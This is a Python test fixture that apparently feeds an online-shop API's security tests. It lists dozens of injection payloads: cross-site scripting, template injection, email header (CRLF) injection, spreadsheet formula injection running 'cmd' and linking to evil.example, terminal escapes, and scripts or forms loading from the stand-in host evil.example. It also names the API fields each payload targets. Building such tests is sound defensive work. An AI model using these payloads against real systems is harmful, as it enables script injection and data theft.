"""What somebody types who means harm. Each that succeeds shows itself.

By `window.pwned`, a dialog, an element `.pwned`, a question to evil.example, a refusal of the
content security policy, or a line that begins where none should.
"""

from typing import Final

EVIL: Final = "//evil.example/x"
PAYLOADS: Final[dict[str, str]] = {
    "script": "<script>window.pwned=1</script>",
    "script, mixed case": "<ScRiPt class=pwned>alert(1)</sCrIpT >",
    "script from elsewhere": f"<script src={EVIL}.js></script>",
    "module": f"<script type=module>import '{EVIL}'</script>",
    "image that fails": "<img src=x onerror=window.pwned=1 class=pwned>",
    "image from elsewhere": f"<img class=pwned src={EVIL}.png>",
    "svg": "<svg class=pwned onload=alert(1)>",
    "svg, slashes for blanks": "<svg/class=pwned/onload=alert`1`>",
    "svg script": "<svg class=pwned><script href=data:,alert(1) /></svg>",
    "math": "<math><mi class=pwned xlink:href=javascript:alert(1)>x",
    "details": "<details class=pwned open ontoggle=alert(1)>",
    "autofocus": "<input class=pwned autofocus onfocus=alert(1)>",
    "iframe": '<iframe class=pwned srcdoc="<script>parent.pwned=1</script>">',
    "object": f"<object class=pwned data={EVIL}></object>",
    "embed": f"<embed class=pwned src={EVIL}>",
    "base": f'<base class=pwned href="{EVIL}/">',
    "meta refresh": f'<meta class=pwned http-equiv=refresh content="0;url={EVIL}">',
    "link": f"<link class=pwned rel=stylesheet href={EVIL}.css>",
    "preload": f"<link class=pwned rel=preload as=image href={EVIL}>",
    "style": "<style class=pwned>*{display:none}</style>",
    "style attribute": '"style="background:url(//evil.example/x)" class="pwned',
    "css function": f"</style><b class=pwned style=background:url({EVIL})>",
    "form": f"<form class=pwned action={EVIL}><button>Log in</button></form>",
    "formaction": f"<button class=pwned formaction={EVIL}>Send</button>",
    "end of the attribute": '"><b class="pwned">bold</b>',
    "end of the other attribute": "'><b class='pwned'>bold</b>",
    "handler in the attribute": '" onmouseover=alert(1) onfocus=alert(1) autofocus class="pwned',
    "handler without quotes": "x onerror=alert(1) class=pwned",
    "end of the textarea": "</textarea><b class=pwned onclick=alert(1)>",
    "end of the title": "</title><script>window.pwned=1</script>",
    "end of the script": "</script><script>window.pwned=1</script>",
    "end of the comment": "--><b class=pwned>bold</b><!--",
    "end of the option": "</option></select><b class=pwned>bold</b>",
    "noscript": '<noscript><p title="</noscript><img class=pwned src=x onerror=alert(1)>">',
    "template element": "<template><b class=pwned></b></template><b class=pwned>",
    "broken tag": "<b class=pwned",
    "double encoded": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "entities": "&#60;b class=pwned&#62;bold&#60;/b&#62;",
    "javascript address": "javascript:alert(1)//",
    "javascript address with a tab": "java\tscript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "host": "//evil.example/%2f..",
    "Jinja": "{{7*7}}{% raw %}{{config}}",
    "Jinja, deeper": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "format": "{0.__class__} %(name)s %s {name!r} ${7*7}",
    "gettext": "%(count)s%%s{number}",
    "hx-get": f'<b class=pwned hx-get="{EVIL}" hx-trigger="load">x</b>',
    "hx-on": '<b class=pwned hx-on:click="alert(1)" hx-on::load="window.pwned=1">x</b>',
    "hx-partial": "<hx-partial hx-target=body hx-swap=innerHTML><b class=pwned>x</b></hx-partial>",
    "stream": "x\n\nevent: message\ndata: <hx-partial hx-target=body><b class=pwned>x</b>\n\n",
    "stream, odd line ends": "x\u2028data: <b class=pwned>\x85data: y\u2029id: 9",
    "right to left": "\u202e>b/<dlob>denwp=ssalc b<\u2066\u2069",
    "marks upon marks": "Z\u0351\u036b\u0343a\u0329\u0349l\u0321\u0353go\u200b\u200d\ufeff",
    "wide letters": "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "null-ish": "null undefined NaN None \\0 %00 &#0;",
    "header": "x\r\nBcc: pwned@evil.example\r\nSet-Cookie: pwned=1\r\n\r\n<b class=pwned>",
    "header, encoded": "=?utf-8?q?x=0D=0ABcc:_pwned=40evil.example?=",
    "log line": "x\n2026-01-01T00:00:00.000000Z [info     ] pwned\x1b[31m\x1b]0;pwned\x07",
    "formula": '=HYPERLINK("http://evil.example/x","Win")',
    "formulas": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula with a plus": "+1+1|pwned",
    "formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
}
"""By what each of them tries."""
FEW: Final = (
    "formula with a plus",
    "script",
    "svg, slashes for blanks",
    "end of the attribute",
    "hx-partial",
)
"""For every day, in one text that fits into a name; what only harms at its beginning is first."""
FIELDS: Final[dict[str, tuple[str, ...]]] = {
    "putProduct": ("name", "description", "category"),
    "moveStock": ("reason",),
    "placeOrder": (
        "customer.name",
        "customer.email",
        "delivery_address.line1",
        "delivery_address.line2",
        "delivery_address.city",
        "delivery_address.postcode",
        "note",
    ),
    "requestCancellation": ("reason",),
    "dispatchShipment": ("carrier", "tracking_number"),
    "deliverShipment": ("delivery_location",),
    "createWebhookEndpoint": ("description",),
}
"""By operation of the API: where the suite writes them."""
NARROW: Final = {
    "putProduct price.currency": "the shop's own, and no other",
    "putProduct picture": "a path of letters, digits and slashes",
    "placeOrder delivery_address.country": "two capitals that are a country",
    "placeOrder items.product_id": "letters, digits, dot, dash and underscore",
    "tellOfParcel tracking_number": "it is looked for, and not kept",
    "tellOfParcel location": "the place of delivery, which deliverShipment writes",
    "createWebhookEndpoint url": "an address of https, as it is parsed",
    "changeWebhookEndpoint url": "the same",
    "changeWebhookEndpoint description": "what createWebhookEndpoint writes",
    "checkAvailability items.product_id": "the same, and nothing is kept",
}
"""Fields that take no payload, with the reason."""
